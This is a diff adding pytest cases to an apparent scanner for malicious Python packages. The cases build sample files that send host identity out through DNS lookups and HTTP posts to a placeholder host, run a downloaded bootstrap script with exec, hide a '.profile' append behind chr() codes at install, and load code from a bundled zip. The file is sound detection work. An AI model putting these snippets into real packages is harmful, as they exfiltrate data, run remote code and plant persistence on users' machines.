@@ -173,3 +173,74 @@ def test_a_string_only_a_maintainer_command_reaches_is_not_install_time(tmp_path
     bare = _scan(tmp_path, "b", {"setup.py": head + line + "setup(name='demo')\n"})
     assert _weight(bare, "cred-files") > _weight(guarded, "cred-files") > 0
     assert guarded.verdict == "clean"
+
+
+def test_a_dns_tool_run_on_a_name_built_from_data_is_dns_exfiltration(tmp_path):
+    def module(host):  # noqa: ANN001, ANN202
+        return ("import socket, subprocess\ndef check():\n    who = socket.gethostname()\n"
+                f"    name = {host}\n    subprocess.Popen(['dig', '+short', name])\n")
+    built = _scan(tmp_path, "a", {"demo/__init__.py": module("f'{who}.collector.placeholder-host.net'")})
+    given = _scan(tmp_path, "b", {"demo/__init__.py": module("'placeholder-host.net'")})
+    assert "exfil-dns" in rules_of(built) and built.verdict != "clean"
+    assert "exfil-dns" not in rules_of(given) and given.verdict == "clean"
+
+
+def test_the_os_or_cpu_fields_of_uname_are_not_host_identity(tmp_path):
+    def module(field):  # noqa: ANN001, ANN202
+        return ("import platform, urllib.request\n"
+                f"ARCH = platform.uname(){field}\n"
+                "def fetch():\n    urllib.request.urlopen('https://placeholder-host.net/tool-' + ARCH)\n")
+    build = "from setuptools import setup\nimport helper\nsetup(name='demo')\n"
+    cpu = _scan(tmp_path, "a", {"setup.py": build, "helper.py": module("[4]")})
+    node = _scan(tmp_path, "b", {"setup.py": build, "helper.py": module("[1]")})
+    assert "recon-host" not in rules_of(cpu) and cpu.verdict == "clean"
+    assert "exfil-host-data" in rules_of(node)
+
+
+def test_a_lookup_of_the_own_name_whose_answer_is_dropped_collects_nothing(tmp_path):
+    def module(lookup):  # noqa: ANN001, ANN202
+        return ("import socket, requests\ndef notify(port):\n    addr = socket.getfqdn()\n"
+                f"    {lookup}\n    requests.post('https://placeholder-host.net/', data=f'{{addr}}:{{port}}')\n")
+    dropped = _scan(tmp_path, "a", {"demo/sub/notify.py": module("socket.gethostbyname(addr)")})
+    kept = _scan(tmp_path, "b", {"demo/sub/notify.py": module("addr += socket.gethostbyname(addr)")})
+    assert "exfil-host-data" not in rules_of(dropped) and dropped.verdict == "clean"
+    assert "exfil-host-data" in rules_of(kept)
+
+
+def test_buildouts_bootstrap_script_weighs_little_unless_the_build_names_it(tmp_path):
+    script = ("import subprocess, urllib.request\n"
+              "exec(urllib.request.urlopen('https://placeholder-host.net/ez_setup.py').read())\n"
+              "subprocess.call(['placeholder-buildout'])\n")
+    unnamed = _scan(tmp_path, "a", {"pyproject.toml": "[project]\nname = 'demo'\n", "bootstrap.py": script})
+    named = _scan(tmp_path, "b", {"setup.py": "import bootstrap\nfrom setuptools import setup\nsetup(name='demo')\n",
+                                  "bootstrap.py": script})
+    assert unnamed.verdict == "clean"
+    assert named.verdict == "malicious"
+
+
+def test_appending_to_a_login_profile_is_persistence_importing_a_profile_module_is_not(tmp_path):
+    def setup(body):  # noqa: ANN001, ANN202
+        return ("from setuptools import setup\nfrom setuptools.command.install import install\n"
+                "class Install(install):\n    def run(self):\n"
+                f"{body}        install.run(self)\nsetup(name='demo', cmdclass={{'install': Install}})\n")
+    chars = ", ".join(str(ord(c)) for c in ".profile")
+    hidden = setup(f"        p = ''.join([chr(x) for x in [{chars}]])\n"
+                   "        with open('/placeholder/home/' + p, 'a') as f:\n            f.write('echo placeholder')\n")
+    appended = _scan(tmp_path, "a", {"setup.py": hidden})
+    relative = _scan(tmp_path, "b", {"setup.py": setup("        pass\n"),
+                                     "demo/__init__.py": "from .profile import Profile\n",
+                                     "demo/profile.py": "class Profile:\n    name = 'self.profile'\n"})
+    assert "persist-unix" in rules_of(appended) and appended.verdict != "clean"
+    assert "persist-unix" not in rules_of(relative)
+
+
+def test_importing_code_from_a_shipped_zip_at_install_is_running_it(tmp_path):
+    load = "zipimport.zipimporter('bundle.zip').load_module('bundle')\n"
+    setup = ("import zipimport\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
+             f"class Install(install):\n    def run(self):\n        {load}        install.run(self)\n"
+             "setup(name='demo', cmdclass={'install': Install})\n")
+    at_install = _scan(tmp_path, "a", {"setup.py": setup})
+    in_package = _scan(tmp_path, "b", {"demo/__init__.py": f"import zipimport\ndef plugin():\n    return {load}"})
+    assert "exec-dynamic" in rules_of(at_install) and at_install.verdict == "malicious"
+    assert _weight(at_install, "exec-dynamic") > _weight(in_package, "exec-dynamic") > 0
+    assert in_package.verdict == "clean"
